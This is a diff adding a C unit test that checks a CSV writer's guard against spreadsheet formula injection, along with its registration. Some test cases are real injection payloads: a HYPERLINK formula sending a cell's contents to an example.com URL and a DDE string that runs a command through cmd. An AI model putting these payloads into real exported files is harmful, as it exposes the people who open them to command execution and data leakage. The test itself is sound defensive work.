@@ -141,6 +141,51 @@ test_writer_field (void)
   g_assert_cmpstr (field (back, 0, 2), ==, "");
 }
 
+/* Text a spreadsheet would run as a formula gets an apostrophe before
+ * it, numbers never do, and reading the field back takes off exactly the
+ * apostrophe that was added. */
+static void
+test_writer_formula_guard (void)
+{
+  static const struct { const char *text; const char *written; } cases[] = {
+    { "=HYPERLINK(\"http://example.com/?\"&A1,\"Click\")",
+      "\"'=HYPERLINK(\"\"http://example.com/?\"\"&A1,\"\"Click\"\")\"" },
+    { "+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0" },
+    { "@SUM(1+1)", "'@SUM(1+1)" },
+    { "-2+3", "'-2+3" },
+    { "\tTabbed", "'\tTabbed" },
+    { "\rReturned", "\"'\rReturned\"" },
+    { "'=Marked already", "''=Marked already" },
+    { "''+Twice", "'''+Twice" },
+    { "'Quoted, not a formula", "\"'Quoted, not a formula\"" },
+    { "'", "'" },
+    { "Plain words = fine", "Plain words = fine" },
+    { "-5", "-5" },
+    { "-0.25", "-0.25" },
+    { "12", "12" },
+    { "-", "'-" },
+    { "-5.", "'-5." },
+    { "-1e5", "'-1e5" },
+    { "", "" },
+  };
+
+  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
+    {
+      g_autoptr(GString) out = g_string_new (NULL);
+      g_autoptr(GPtrArray) back = NULL;
+      g_autofree char *read = NULL;
+
+      pm_csv_append_cell (out, cases[i].text);
+      g_assert_cmpstr (out->str, ==, cases[i].written);
+
+      g_string_append (out, ",x\r\n");
+      back = parse_ok (out->str);
+      read = g_strdup (field (back, 0, 0));
+      pm_csv_strip_formula_guard (read);
+      g_assert_cmpstr (read, ==, cases[i].text);
+    }
+}
+
 /* ---- checking rows against the programme -------------------------------- */
 
 typedef struct
@@ -674,6 +719,7 @@ main (int   argc,
   g_test_add_func ("/csv/reader/bom", test_reader_bom);
   g_test_add_func ("/csv/reader/faults", test_reader_faults);
   g_test_add_func ("/csv/writer/field", test_writer_field);
+  g_test_add_func ("/csv/writer/formula-guard", test_writer_formula_guard);
 
 #define ADD(path, func) \
   g_test_add (path, Fixture, NULL, fixture_set_up, func, fixture_tear_down)
